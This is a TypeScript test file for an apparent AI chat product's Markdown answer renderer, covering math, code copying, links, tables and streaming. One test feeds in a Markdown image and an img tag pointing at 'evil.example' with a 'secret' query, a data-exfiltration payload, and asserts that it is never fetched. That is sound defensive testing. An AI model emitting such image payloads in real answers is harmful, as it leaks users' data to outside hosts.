import { glob, readFile } from 'node:fs/promises'
import { basename } from 'node:path'
import type { Page } from 'playwright'
import { expect, test } from 'vitest'
import { answer, ask, member, release, script, send } from './harness/index.ts'

const text = (page: Page) => answer(page).locator('.prose-text')

/** A member's page that has asked a question, with what the page has said to its console. */
async function asked(question: string): Promise<{ page: Page; console: string[] }> {
  const page = await member()
  const console: string[] = []
  page.on('console', (message) => console.push(message.text()))
  await ask(page, question)
  return { page, console }
}

/** The answer as it is drawn, less what differs from one drawing to the next. */
const drawn = async (page: Page) =>
  (await text(page).innerHTML()).replace(/ (id|style|data-token|class)="[^"]*"/g, '').replace(/<\/?span>/g, '')

const everything = `# Title

**重要：**注意してください。 It costs $5 now and $9 later, but $x^2$ and \\(y\\) are math.

\\[
\\frac{a}{b}
\\]

| a | b |
|---|---|
| 1 | 2 |

\`\`\`typescript
const answer: number = 42 // life
\`\`\`

- one
- two [link][later] and a note[^1]

[later]: /files/5#page=2

[^1]: The note.
`

test('what was streamed looks the same after a reload', async () => {
  const tokens = everything.match(/[^]{1,7}/g)!.map((say) => ({ say }))
  await script('same', tokens.slice(0, 30).concat([{ hold: true }, ...tokens.slice(30)] as never))
  const { page, console } = await asked('script:same')
  await text(page).locator('h1').waitFor()
  await release('same')
  await send(page).waitFor()
  await text(page).locator('.katex-display').waitFor()
  await text(page).locator('[data-token=keyword]').first().waitFor()
  expect(await text(page).locator('.katex').count()).toBe(3)
  expect(await text(page).innerText()).toContain('It costs $5 now and $9 later')
  const streamed = await drawn(page)
  await page.reload()
  await text(page).locator('.katex-display').waitFor()
  await text(page).locator('[data-token=keyword]').first().waitFor()
  expect(await drawn(page)).toBe(streamed)
  expect(console.filter((line) => /Content Security Policy|hydrat/i.test(line))).toEqual([])
})

test('math is drawn with its own fonts, from the product itself', async () => {
  await script('fonts', [{ say: '$\\mathbb{R} \\int x$' }])
  const { page } = await asked('script:fonts')
  await text(page).locator('.katex').waitFor()
  await page.evaluate(() => document.fonts.ready)
  const loaded = await page.evaluate(() =>
    [...document.fonts]
      .filter(({ family, status }) => family.startsWith('KaTeX') && status === 'loaded')
      .map(({ family }) => family),
  )
  expect(loaded.length).toBeGreaterThan(0)
})

test('code is copied as it was written', async () => {
  await script('code', [{ say: '```python\ndef f(x):\n    return x\n\nf(1)\n```\n' }])
  const { page } = await asked('script:code')
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
  await text(page).getByRole('button', { name: 'Copy code' }).click()
  await page.getByText('Copied to clipboard').waitFor()
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('def f(x):\n    return x\n\nf(1)')
})

test('a link to a file opens the preview at its page, any other that is not of the web is refused', async () => {
  await script('links', [
    { say: '[the file](/files/1#page=2), [elsewhere](/admin/users), [web](https://example.com/)' },
  ])
  const { page, console } = await asked('script:links')
  await text(page).getByRole('button', { name: 'elsewhere' }).click()
  expect(console).toContain('Invalid url format. Use "/files/5" or "/files/5#page=2"')
  expect(await text(page).getByRole('link', { name: 'web' }).getAttribute('target')).toBe('_blank')
  await text(page).getByRole('link', { name: 'the file' }).click()
  await page.waitForURL(/preview=1&preview_page=2/)
})

test('an image from elsewhere is never asked for', async () => {
  await script('image', [{ say: '![plan](https://evil.example/?q=secret) <img src="https://evil.example/2"> done' }])
  const { page } = await asked('script:image')
  const asks: string[] = []
  page.on('request', (request) => asks.push(request.url()))
  await text(page).getByText('done').waitFor()
  await send(page).waitFor()
  await page.reload()
  await text(page).getByRole('link', { name: 'plan (evil.example)' }).waitFor()
  expect(asks.filter((url) => url.includes('evil.example'))).toEqual([])
  expect(await page.locator('img[src*=evil], link[href*=evil]').count()).toBe(0)
})

test('a long table keeps its columns where they are while rows are added', async () => {
  const row = (number: number) => `| ${number} | some words |\n`
  const rows = (from: number, to: number) => Array.from({ length: to - from }, (_, index) => row(from + index)).join('')
  await script('table', [{ say: `| # | b |\n|---|---|\n${rows(0, 60)}` }, { hold: true }, { say: rows(60, 120) }])
  const { page } = await asked('script:table')
  await text(page).locator('td', { hasText: /^59$/ }).waitFor({ state: 'attached' })
  const width = () =>
    text(page)
      .locator('table')
      .evaluate((table: HTMLTableElement) => table.rows[0]!.cells[1]!.offsetLeft)
  const before = await width()
  await release('table')
  await text(page).locator('td', { hasText: /^119$/ }).waitFor({ state: 'attached' })
  expect(await width()).toBe(before)
  expect(await text(page).locator('tr').count()).toBe(121)
  await send(page).waitFor()
  await page.reload()
  await text(page).locator('td', { hasText: /^119$/ }).waitFor({ state: 'attached' })
  expect(await width()).toBe(before)
})

test("the Worker's bundle draws nothing: no KaTeX, no highlighter, and of Markdown the parser of translations alone", async () => {
  const drawing: string[] = []
  const parsing: string[] = []
  for await (const path of glob('dist/server/**/*.js')) {
    const code = await readFile(path, 'utf8')
    if (/katex|shiki|hast-util-to-jsx|react-markdown/i.test(code)) drawing.push(path)
    if (/micromark/.test(code)) parsing.push(basename(path))
  }
  expect(drawing).toEqual([])
  expect(parsing).toEqual([expect.stringMatching(/^open-markdown-/)])
})
